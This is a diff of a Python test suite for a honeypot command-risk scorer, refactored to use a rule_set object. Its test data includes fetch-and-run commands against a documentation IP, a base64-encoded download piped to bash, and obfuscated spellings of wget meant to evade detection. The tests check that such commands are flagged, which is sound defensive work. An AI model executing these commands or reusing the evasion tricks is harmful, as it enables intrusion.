@@ -9,11 +9,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from cowrie_assets.cowrie.counting import SQL_NAMES
-from cowrie_assets.cowrie.risk import CHAINS, HIGH_RISK, MAX_BONUS, RULES, SESSION_BASE, assess, command_risk, explain
+from cowrie_assets.cowrie.risk import HIGH_RISK, MAX_BONUS, SESSION_BASE
+from cowrie_assets.cowrie.rule_set import rule_set
+from cowrie_assets.cowrie.rule_table import project_table
 from cowrie_assets_tests.cpu_time import least_cpu_seconds
 
 DOCUMENT = Path(__file__).parents[2] / "docs" / "RISK.md"
-BY_NAME = {rule.name: rule for rule in RULES}
+RISK = rule_set().risk
+BY_NAME = {rule.name: rule for rule in RISK.rules}
 PAYLOAD = b64encode(b"wget http://192.0.2.14/x.sh; sh x.sh").decode()
 
 ATTACKS = {
@@ -117,31 +120,31 @@ DISGUISES = [
 
 @pytest.mark.parametrize(("command", "rule"), ATTACKS.items())
 def test_an_attack_is_high_risk_and_says_why(command, rule):
-    assert command_risk(command) >= HIGH_RISK
-    assert BY_NAME[rule] in explain(command)
+    assert RISK.score(command) >= HIGH_RISK
+    assert BY_NAME[rule] in RISK.assess(command).rules
 
 
 @pytest.mark.parametrize("command", HARMLESS)
 def test_looking_around_is_low(command):
-    assert command_risk(command) <= 25
+    assert RISK.score(command) <= 25
 
 
 @pytest.mark.parametrize("disguise", DISGUISES)
 def test_a_download_is_seen_through_every_disguise(disguise):
     command = disguise.format("wget http://192.0.2.14/x")
-    assert BY_NAME["download"] in explain(command)
+    assert BY_NAME["download"] in RISK.assess(command).rules
 
 
 @pytest.mark.parametrize(
     "word", ["w'g'et", 'w"g"et', "w\\get", "w''get", "$'\\x77get'", "w$@get", "/usr//bin/wget", "./../bin/wget"]
 )
 def test_a_download_is_seen_however_its_name_is_spelled(word):
-    assert BY_NAME["download"] in explain(f"{word} http://192.0.2.14/x")
-    assert BY_NAME["download"] in explain(f"{word}${{IFS}}http://192.0.2.14/x")
+    assert BY_NAME["download"] in RISK.assess(f"{word} http://192.0.2.14/x").rules
+    assert BY_NAME["download"] in RISK.assess(f"{word}${{IFS}}http://192.0.2.14/x").rules
 
 
 def test_what_base64_hides_is_scored_too():
-    names = {rule.name for rule in explain(f"echo {PAYLOAD}|base64 -d|bash")}
+    names = {rule.name for rule in RISK.assess(f"echo {PAYLOAD}|base64 -d|bash").rules}
     assert {"decoded_to_shell", "download", "dropped_file"} <= names
 
 
@@ -153,32 +156,32 @@ def test_text_that_only_names_a_program_is_no_use_of_it():
         "cat /etc/passwd",
         "sed -n 1p /etc/passwd",
     ):
-        assert command_risk(command) < HIGH_RISK, command
+        assert RISK.score(command) < HIGH_RISK, command
 
 
 def test_a_bots_probe_is_above_looking_around_and_below_an_attack():
     probe = "cat /proc/mounts; /bin/busybox ECCHI"
-    assert command_risk("cat /proc/mounts") < command_risk("/bin/busybox ECCHI") < command_risk(probe) < HIGH_RISK
+    assert RISK.score("cat /proc/mounts") < RISK.score("/bin/busybox ECCHI") < RISK.score(probe) < HIGH_RISK
 
 
 def test_chains_add_to_the_greatest_rule_and_are_bounded():
     steps = "wget http://192.0.2.14/x -O /tmp/x", "chmod +x /tmp/x", "/tmp/x", "rm /tmp/x"
-    greatest = max(command_risk(step) for step in steps)
-    whole = assess("; ".join(steps))
+    greatest = max(RISK.score(step) for step in steps)
+    whole = RISK.assess("; ".join(steps))
     assert greatest < whole.score <= greatest + MAX_BONUS
     assert {chain.name for chain in whole.chains} == {"fetch_and_run", "run_and_erase"}
-    assert sum(chain.bonus for chain in CHAINS) > MAX_BONUS
+    assert sum(chain.bonus for chain in RISK.chains) > MAX_BONUS
 
 
 def test_a_command_longer_than_is_read_is_high_risk():
-    assert command_risk("a" * 70_000 + "; wget http://192.0.2.14/x") >= HIGH_RISK
+    assert RISK.score("a" * 70_000 + "; wget http://192.0.2.14/x") >= HIGH_RISK
 
 
 @given(st.text() | st.text(alphabet="ab'\"\\`$(){};|&<>#\n \0-=./\u202e\ud800", max_size=60))
 def test_any_string_has_a_score_that_its_rules_explain(command):
-    assessment = assess(command)
+    assessment = RISK.assess(command)
     assert 0 <= assessment.score <= 100
-    assert assessment == assess(command)
+    assert assessment == RISK.assess(command)
     assert assessment.score >= max((rule.score for rule in assessment.rules), default=0)
 
 
@@ -203,7 +206,7 @@ def test_any_string_has_a_score_that_its_rules_explain(command):
     ],
 )
 def test_a_megabyte_of_malice_is_scored_within_a_second(unit):
-    assert least_cpu_seconds(lambda: command_risk(unit * (1_000_000 // len(unit))), 1) < 1
+    assert least_cpu_seconds(lambda: RISK.score(unit * (1_000_000 // len(unit))), 1) < 1
 
 
 def test_the_documents_tables_are_the_codes():
@@ -214,9 +217,9 @@ def test_the_documents_tables_are_the_codes():
     ]
     documented = [tuple(row) for row in rows]
     assert [row for row in documented if row[0] in BY_NAME] == [
-        (rule.name, str(rule.score), rule.description) for rule in RULES
+        (rule.name, str(rule.score), rule.description) for rule in RISK.rules
     ]
-    chains = [(chain.name, str(chain.bonus), chain.description) for chain in CHAINS]
+    chains = [(chain.name, str(chain.bonus), chain.description) for chain in RISK.chains]
     assert [row[:3] for row in documented if row[:3] in chains] == chains
     assert [row for row in documented if row[0] in SESSION_BASE] == [
         (name, str(score)) for name, score in SESSION_BASE.items()
@@ -224,10 +227,8 @@ def test_the_documents_tables_are_the_codes():
 
 
 def test_the_table_is_sound():
-    scores = [rule.score for rule in RULES]
+    table = project_table("risk")
+    scores = [rule.score for rule in table.rules]
     assert scores == sorted(scores, reverse=True)
-    assert len(BY_NAME) == len(RULES)
-    assert not [rule.name for rule in RULES if rule.programs and rule.markers]
-    assert {name for chain in CHAINS for group in chain.groups for name in group} <= set(BY_NAME)
+    assert {name for chain in table.chains for group in chain.groups for name in group} <= set(BY_NAME)
     assert set(SESSION_BASE) <= set(SQL_NAMES)
-    assert all(marker == marker.lower() for rule in RULES for marker in rule.markers)
